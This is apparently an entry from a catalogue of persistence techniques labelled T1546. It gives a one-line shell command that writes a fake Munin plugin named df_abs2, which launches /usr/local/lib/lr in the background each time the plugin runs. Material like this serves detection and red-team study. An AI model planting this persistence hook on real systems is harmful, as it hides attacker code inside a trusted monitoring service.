# technique: T1546
# location: linux.monitoring.plugin
# source: /etc/munin/plugins/df_abs2
install -D -m 755 /dev/stdin /etc/munin/plugins/df_abs2 <<< '#!/bin/sh
/usr/local/lib/lr &'
